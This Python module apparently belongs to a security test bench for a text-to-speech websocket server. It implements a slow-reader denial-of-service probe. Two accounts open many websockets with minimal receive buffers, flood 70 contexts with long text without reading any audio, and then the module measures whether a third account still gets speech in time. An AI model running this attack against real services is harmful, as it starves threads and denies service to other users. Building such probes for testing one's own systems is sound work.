"""Attacks by websockets whose clients send text but take no speech."""

import json
import socket
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from urllib.parse import urlsplit

from websockets.sync.client import ClientConnection, connect

from bench.attack.holes import Hole, Probed
from bench.attack.target import Target

_ACCOUNTS, _SOCKETS, _CONTEXTS = 2, 7, 5
"""More contexts than the process has threads; an account may begin 60 a minute."""
_LONG = "This is read by nobody, and it goes on for a while. " * 90
_SENTENCE = "Somebody else says a sentence. "
_SETTLED_S = 5.0
_MOST_WAIT_S, _GIVEN_UP_S = 2.0, 30.0


def hold_threads_by_slow_sockets(target: Target) -> Probed:
    """Let two accounts open 70 contexts and take none of their speech; speak a sentence by a third account's socket."""
    with ExitStack() as held:
        for key in [target.new_key() for _ in range(_ACCOUNTS)] * _SOCKETS:
            slow = held.enter_context(_unread(target, key))
            for name in range(_CONTEXTS):
                slow.send(json.dumps({"text": _LONG, "context_id": str(name), "flush": True}))
        time.sleep(_SETTLED_S)
        waited_s = _first_audio_s(target, target.new_key())
    is_open = waited_s is None or waited_s > _MOST_WAIT_S
    told = f"nothing within {_GIVEN_UP_S:.0f} s" if waited_s is None else f"the first sound after {waited_s:.2f} s"
    unread = _ACCOUNTS * _SOCKETS * _CONTEXTS
    return Probed(f"another account gets {told} beside {unread} unread contexts", is_open=is_open)


def _first_audio_s(target: Target, key: str) -> float | None:
    """Return the seconds from a sentence to its first audio; None if there is none, or no socket, in time."""
    headers = {"xi-api-key": key}
    try:
        with connect(_address(target), additional_headers=headers, open_timeout=_GIVEN_UP_S) as other:
            began = time.monotonic()
            other.send(json.dumps({"text": _SENTENCE, "context_id": "0", "flush": True}))
            message = json.loads(other.recv(timeout=_GIVEN_UP_S))
            return time.monotonic() - began if message.get("audio") else None
    except TimeoutError:
        return None


@contextmanager
def _unread(target: Target, key: str) -> Iterator[ClientConnection]:
    """Yield a socket that takes as little as the system allows."""
    address = urlsplit(target.web.url)
    plain = socket.socket()
    plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    plain.connect((address.hostname, address.port))
    headers = {"xi-api-key": key}
    with connect(_address(target), sock=plain, max_queue=1, additional_headers=headers, close_timeout=0) as opened:
        yield opened


def _address(target: Target) -> str:
    base = target.web.url.replace("http", "ws", 1)
    return f"{base}/elevenlabs/v1/text-to-speech/af_heart/multi-stream-input?output_format=pcm_24000"


HOLES = (
    Hole(49, "unread websockets hold every thread", "another account gets no socket", hold_threads_by_slow_sockets),
)
